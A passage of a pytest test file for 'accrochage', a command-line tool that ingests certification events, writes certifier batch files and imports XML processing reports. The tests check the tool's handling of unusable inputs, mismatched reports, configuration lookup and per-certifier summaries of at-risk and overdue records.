    source = write_jsonl(tmp_path / "u.jsonl", lines)
    run(config, "ingest", str(source))
    table = run(config, "unusable").stdout.splitlines()
    assert table[0].split() == ["id", "received_at", "source", "certifier", "record_id", "problem"]
    assert len(table) == 4, table  # newest first
    assert f"{source}:4" in table[1] and "U-NONE" in table[1] and "no record U-NONE" in table[1]
    assert "record_id: expected a string" in table[2]
    assert "is not valid JSON" in table[3]
    assert "not json" not in "\n".join(table)  # the raw input only in JSON and CSV
    assert "note:" not in run(config, "unusable").stderr, "all shown"
    newest = run(config, "unusable", "--format", "json", "--limit", "1")
    assert "the 1 newest are shown; older ones are kept: --limit N" in newest.stderr
    shown = json.loads(newest.stdout)
    assert [(r["source"], r["raw"]) for r in shown] == [
        (f"{source}:4", lines[3] and shown[0]["raw"])
    ]
    assert set(shown[0]) == {
        "id",
        "received_at",
        "source",
        "certifier",
        "event_id",
        "record_id",
        "errors",
        "raw",
        "dismissed_at",
        "dismissed_note",
        "forgotten_at",
    }
    assert json.loads(shown[0]["raw"])["record_id"] == "U-NONE"
    assert shown[0]["certifier"] == "pix"  # the revocation names it
    mine = json.loads(run(config, "unusable", "--certifier", "pix", "--format", "json").stdout)
    assert [r["record_id"] for r in mine] == ["U-NONE"], "the others name no certifier"
    assert (
        json.loads(run(config, "unusable", "--certifier", "school", "--format", "json").stdout)
        == []
    )


def test_deadline_unknown_with_a_deadline_filter_is_a_usage_error(loaded: Path) -> None:
    for other in (["--overdue"], ["--due-within", "14"]):
        refused = run(loaded, "outstanding", "--deadline-unknown", *other, code=2)
        assert "cannot be combined with --overdue or --due-within" in refused.stderr


def test_a_certifier_key_not_configured_is_said_not_silently_empty(loaded: Path) -> None:
    for command in (
        ["outstanding"],
        ["records"],
        ["batches"],
        ["retry", "--all-rejected"],
        ["revalidate"],
        ["unusable"],
        ["correction-request", "list"],
    ):
        typo = run(loaded, *command, "--certifier", "pixx")
        assert "'pixx' is not a certifier of the configuration (configured: pix" in typo.stderr
        assert "note:" not in run(loaded, *command, "--certifier", "pix").stderr


def test_an_unusable_input_sent_again_is_kept_once(config: Path, tmp_path: Path) -> None:
    """A platform retrying a refused event, or a file ingested again, added a row each time:
    the unusable count grew with no new problem to fix."""
    lines: list[dict[str, Any] | str] = [
        {"record_id": 5, "event_id": "same-unusable-1"},
        revoked_event(record_id="U-NONE"),
        "not json",
    ]
    source = write_jsonl(tmp_path / "u.jsonl", [*lines, lines[0]])
    for _ in range(3):
        out = run(config, "ingest", str(source)).stdout
        assert "refused:  1" in out and "unusable: 3" in out, out  # each is still answered
    again = write_jsonl(tmp_path / "again.jsonl", [lines[2], '{"record_id": 6}'])
    run(config, "ingest", str(again))
    shown = json.loads(run(config, "unusable", "--format", "json").stdout)
    assert [r["source"] for r in shown] == [
        f"{again}:2",
        f"{source}:3",
        f"{source}:2",
        f"{source}:1",
    ]
    summary = json.loads(run(config, "summary", "--format", "json").stdout)
    assert summary["unusable_events"] == 4


def test_deposited_says_what_a_short_prefix_and_a_missing_file_mean(
    config: Path, tmp_path: Path
) -> None:
    run(config, "ingest", str(write_jsonl(tmp_path / "d.jsonl", [recent("DP-1")])))
    out = run(config, "flush", "--force").stdout
    path = Path(next(line for line in out.splitlines() if line.startswith("wrote ")).split()[1])
    batch_id = next(iter(outstanding_json(config)))["batch_id"]
    short = run(config, "deposited", batch_id[:4], code=1)
    assert "id prefix (8 characters or more)" in short.stderr, short.stderr
    path.unlink()  # uploaded from elsewhere, or deleted by mistake: said, not refused
    said = run(config, "deposited", batch_id).stdout
    assert "deposited (1 records)" in said
    assert f"its file {path.name} is no longer in the outbox" in said, said


def test_two_lines_too_long_to_read_are_two_inputs_even_of_the_same_start(
    config: Path, tmp_path: Path
) -> None:
    """Their kept start was hashed: the second was taken for a copy of the first and not kept."""
    source = tmp_path / "long.jsonl"
    start = b'{"record_id": "L-1", "padding": "'
    with source.open("wb") as out:
        for fill in (b"x", b"y"):
            out.write(start + b"a" * 300 + fill * (16 * 1024 * 1024) + b'"}\n')
    out = run(config, "ingest", str(source)).stdout
    assert "unusable: 2" in out, out
    shown = json.loads(run(config, "unusable", "--format", "json").stdout)
    assert [r["source"] for r in shown] == [f"{source}:2", f"{source}:1"]


def test_a_report_naming_a_record_of_another_batch_names_it(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """It was counted `1 unchanged` and never named: a report of another file, or a record
    sent again since, went unseen."""
    run(config, "ingest", str(write_jsonl(tmp_path / "a.jsonl", [recent("EW-1")])))
    first = run(config, "flush", "--force").stdout
    path = Path(next(line for line in first.splitlines() if line.startswith("wrote ")).split()[1])
    run(config, "ingest", str(write_jsonl(tmp_path / "b.jsonl", [recent("EW-2")])))
    run(config, "flush", "--force")
    report = tmp_path / "accuse.xml"
    report.write_bytes(
        processed_report(shared_dir, file_name=path.name, id_flux=None, ok=["EW-1", "EW-2"])
    )
    out = run(config, "import-report", str(report)).stdout
    assert "1 accepted, 0 rejected, 1 unchanged" in out, out
    assert "records the batch did not carry, left as they are (1): EW-2" in out
    statuses = {
        r["record_id"]: r["status"]
        for r in json.loads(run(config, "records", "--format", "json").stdout)
    }
    assert statuses == {"EW-1": "accepted", "EW-2": "batched"}


def test_a_report_of_a_file_accrochage_did_not_write_waits_for_the_operators_word(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """Another emitter's report (its idFlux and file name are none of ours) whose KO names
    an id of ours: applied by idTechnique it marked our record rejected and superseded its
    written file. It is refused, nothing changes, and `--by-id` applies it on the
    operator's word."""
    run(config, "ingest", str(write_jsonl(tmp_path / "o.jsonl", [recent("OE-1"), recent("OE-2")])))
    run(config, "flush", "--force")
    report = tmp_path / "autre-emetteur.xml"
    report.write_bytes(
        processed_report(
            shared_dir,
            file_name="export-autre-organisme.xml",
            id_flux="4df76fd4-0915-46df-8c56-525506af35be",
            ko={"OE-1": "Aucun titulaire ne correspond aux critères obligatoires"},
            ok=["OTHER-9"],
        )
    )
    both = run(config, "import-report", str(report), "--by-id", "--batch", "x", code=2)
    assert "exclude each other" in both.stderr
    refused = run(config, "import-report", str(report), code=1)
    assert "matches no file accrochage wrote" in refused.stderr, refused.stderr
    assert "1 of its 2 idTechnique(s) are records here" in refused.stderr
    assert "--by-id" in refused.stderr and "--batch" in refused.stderr
    (batch,) = json.loads(run(config, "batches", "--format", "json").stdout)
    assert batch["state"] == "written", "its file was superseded"
    records = json.loads(run(config, "records", "--format", "json").stdout)
    assert {r["status"] for r in records} == {"batched"}

    done = run(config, "import-report", str(report), "--by-id").stdout
    assert "batch unknown: 0 accepted, 1 rejected" in done, done
    assert "unknown idTechnique (1): OTHER-9" in done
    statuses = {
        r["record_id"]: r["status"]
        for r in json.loads(run(config, "records", "--format", "json").stdout)
    }
    assert statuses == {"OE-1": "rejected", "OE-2": "pending"}, "OE-2 is cut again"
    (superseded,) = json.loads(run(config, "batches", "--format", "json").stdout)
    assert superseded["state"] == "superseded"


def test_a_report_by_id_naming_several_certifiers_records_is_refused(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """Applied by idTechnique, a report naming pix's and school's records moved both on one
    report's word (a CDC report answers one file, one certifier's)."""
    events = [recent("MX-1"), recent("MX-2", certifier="school")]
    run(config, "ingest", str(write_jsonl(tmp_path / "m.jsonl", events)))
    run(config, "flush", "--force")
    report = tmp_path / "joined.xml"
    report.write_bytes(
        processed_report(
            shared_dir, file_name="joined.xml", id_flux=None, ok=["MX-1"], ko={"MX-2": NO_HOLDER}
        )
    )
    refused = run(config, "import-report", str(report), "--by-id", code=1)
    assert "names records of several certifiers: pix (1), school (1)" in refused.stderr
    assert "nothing applied" in refused.stderr
    assert {r["status"] for r in outstanding_json(config)} == {"batched"}


def test_generate_numbers_record_ids_from_first(config: Path) -> None:
    """Another seed alone gives the same ids (corrections); --first gives new ones."""

    def ids(*args: str) -> set[str]:
        out = run(config, "generate", "-n", "20", *args).stdout
        return {json.loads(line)["record_id"] for line in out.splitlines()}

    def numbers(found: set[str]) -> set[str]:
        return {record_id.rsplit("-", 1)[1] for record_id in found}

    assert numbers(ids("--seed", "1")) == numbers(ids("--seed", "2"))
    assert ids().isdisjoint(ids("--first", "20"))
    assert len(ids("--first", "20")) == 20


def test_a_report_naming_two_batches_is_applied_to_neither(
    config: Path, tmp_path: Path, shared_dir: Path
) -> None:
    """Its idFlux named pix's batch and its nomFichier school's: pix's batch was settled,
    'reported', its file moved to done/, its 2 records left 'not mentioned', exit 0."""
    events = [recent("TW-1"), recent("TW-2"), recent("TW-S", certifier="school")]
    run(config, "ingest", str(write_jsonl(tmp_path / "e.jsonl", events)))
    run(config, "flush", "--force")
    rows = json.loads(run(config, "batches", "--format", "json").stdout)
    pix = next(b for b in rows if b["certifier"] == "pix")
    other = next(b for b in rows if b["certifier"] != "pix")
    report = tmp_path / "mixed.xml"
    report.write_bytes(
        processed_report(
            shared_dir, file_name=Path(other["file"]).name, id_flux=pix["batch_id"], ok=["TW-S"]
        )
    )
    refused = run(config, "import-report", str(report), code=1)
    assert "name two batches" in refused.stderr and "--batch REF" in refused.stderr
    after = json.loads(run(config, "batches", "--format", "json").stdout)
    assert {b["state"] for b in after} == {"written"}, "a batch was settled"
    done = run(config, "import-report", str(report), "--batch", other["batch_id"])
    assert "1 accepted" in done.stdout
    # Imported again (reports/*.xml, say), without --batch: nothing changes, exit 0.
    again = run(config, "import-report", str(report))
    assert "already imported" in again.stdout
    states = {
        b["certifier"]: b["state"]
        for b in json.loads(run(config, "batches", "--format", "json").stdout)
    }
    assert states == {"pix": "written", other["certifier"]: "reported"}


def test_an_unusable_event_dealt_with_is_dismissed_and_kept(config: Path, tmp_path: Path) -> None:
    """Every unusable event stayed listed and counted for ever, those sent again fixed too:
    the summary's count said nothing of what was left to do."""
    source = tmp_path / "u.jsonl"
    source.write_text('not JSON\n{"record_id": 5}\n', encoding="utf-8")
    run(config, "ingest", str(source))
    listed = json.loads(run(config, "unusable", "--format", "json").stdout)
    assert len(listed) == 2 and all(row["dismissed_at"] is None for row in listed)
    first, second = (str(row["id"]) for row in listed)
    done = run(config, "dismiss-unusable", first, "999999", "x", "--note", "sent again", code=1)
    assert f"{first}: dismissed" in done.stdout
    assert "999999: no unusable event has this id" in done.stderr
    assert "x: not an id of the unusable log" in done.stderr
    assert [
        str(r["id"]) for r in json.loads(run(config, "unusable", "--format", "json").stdout)
    ] == [second]
    assert "unusable events: 1 to deal with" in run(config, "summary").stdout
    table = run(config, "unusable", "--all").stdout
    assert "dismissed: sent again" in table
    usage = run(config, "dismiss-unusable", second, "--note", "  ", code=2)
    assert "--note must say" in usage.stderr
    odd = run(config, "dismiss-unusable", "²", "١", "--note", "x", code=1)
    assert "²: not an id" in odd.stderr and "١: not an id" in odd.stderr, "digits, not numbers"
    run(config, "ingest", str(source))  # the same, unfixed, again: to deal with again
    again = json.loads(run(config, "unusable", "--format", "json").stdout)
    assert sorted(str(row["id"]) for row in again) == sorted([first, second])


def test_the_configuration_is_found_by_its_variable_then_in_the_current_folder(
    tmp_path: Path,
) -> None:
    """`--config` is optional: `$ACCROCHAGE_CONFIG`, else `./accrochage.toml` (the README's
    first day); with neither, the error says the three ways."""
    (tmp_path / "here").mkdir()
    config = write_config(tmp_path / "here")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    events = write_jsonl(elsewhere / "one.jsonl", [recent("CFG-1")])
    env = {k: v for k, v in os.environ.items() if k != "ACCROCHAGE_CONFIG"}

    def accrochage(cwd: Path, *args: str, **extra: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "accrochage", *args],
            cwd=cwd,
            env={**env, **extra},
            capture_output=True,
            text=True,
            timeout=120,
        )

    by_variable = accrochage(elsewhere, "ingest", str(events), ACCROCHAGE_CONFIG=str(config))
    assert by_variable.returncode == 0, by_variable.stderr
    assert (tmp_path / "here" / "var" / "state.db").is_file()
    in_folder = accrochage(config.parent, "summary", "--format", "json")
    assert in_folder.returncode == 0, in_folder.stderr
    assert json.loads(in_folder.stdout)["records"] == 1
    neither = accrochage(elsewhere, "summary")
    assert neither.returncode != 0
    assert "configuration file accrochage.toml not found" in neither.stderr
    assert "ACCROCHAGE_CONFIG" in neither.stderr


def test_summary_says_whose_records_are_at_risk_and_overdue(config: Path, tmp_path: Path) -> None:
    """A trusted third party's summary said "5 at risk" without saying whose."""
    day = REAL_TODAY
    events = [
        recent("WR-1", delivered_on=(day - timedelta(days=85)).isoformat()),  # at risk
        recent("WR-2", delivered_on=(day - timedelta(days=120)).isoformat()),  # overdue
        recent("WR-3", certifier="school", delivered_on=(day - timedelta(days=80)).isoformat()),
        recent("WR-4", certifier="school"),
    ]
    run(config, "ingest", str(write_jsonl(tmp_path / "w.jsonl", events)))
    summary = json.loads(run(config, "summary", "--format", "json").stdout)
    assert summary["at_risk_by_certifier"] == {"pix": 1, "school": 1}
    assert summary["overdue_by_certifier"] == {"pix": 1}
    assert (summary["at_risk"], summary["overdue"]) == (2, 1)
    text = run(config, "summary").stdout
    header = next(line for line in text.splitlines() if line.startswith("certifier"))
    assert header.split()[-3:] == ["at", "risk", "overdue"]
    pix = next(line for line in text.splitlines() if line.startswith("pix "))
    assert pix.split()[-2:] == ["1", "1"]


def test_summary_counts_an_unconfigured_certifiers_risks_under_question_mark(
    config: Path, tmp_path: Path
) -> None:
    """A record naming a certifier that is not configured counts under `?` in the per-certifier
    at risk and overdue too: the table showed 0 on the `?` row while the alerts fired for `?`,
    and the JSON keyed them by the sender's free text."""
    day = REAL_TODAY
    events = [
        recent(
            "UQ-1", certifier="Cabinet Martin", delivered_on=(day - timedelta(days=80)).isoformat()
        ),
        recent(
            "UQ-2", certifier="Cabinet Martin", delivered_on=(day - timedelta(days=120)).isoformat()
        ),
    ]
    run(config, "ingest", str(write_jsonl(tmp_path / "u.jsonl", events)))
    out = run(config, "summary", "--format", "json").stdout
    assert "Cabinet Martin" not in out
    summary = json.loads(out)
    assert summary["at_risk_by_certifier"] == {"?": 1}
    assert summary["overdue_by_certifier"] == {"?": 1}
    row = next(line for line in run(config, "summary").stdout.splitlines() if line.startswith("? "))
    assert row.split()[-2:] == ["1", "1"]


def test_flush_force_for_one_certifier_cuts_its_records_only(config: Path, tmp_path: Path) -> None:
    """Releasing one certifier's file now meant `flush --force` for every certifier."""
    events = [recent("FC-1"), recent("FC-2", certifier="school")]
    run(config, "ingest", str(write_jsonl(tmp_path / "f.jsonl", events)))
    refused = run(config, "flush", "--certifier", "school", code=2)
    assert "give --force" in refused.stderr
    assert "not a configured" in run(config, "flush", "--force", "--certifier", "x", code=2).stderr
    out = run(config, "flush", "--force", "--certifier", "school").stdout
    assert out.count("wrote ") == 1, out
    statuses = {r["record_id"]: r["status"] for r in outstanding_json(config)}
    assert statuses == {"FC-1": "pending", "FC-2": "batched"}
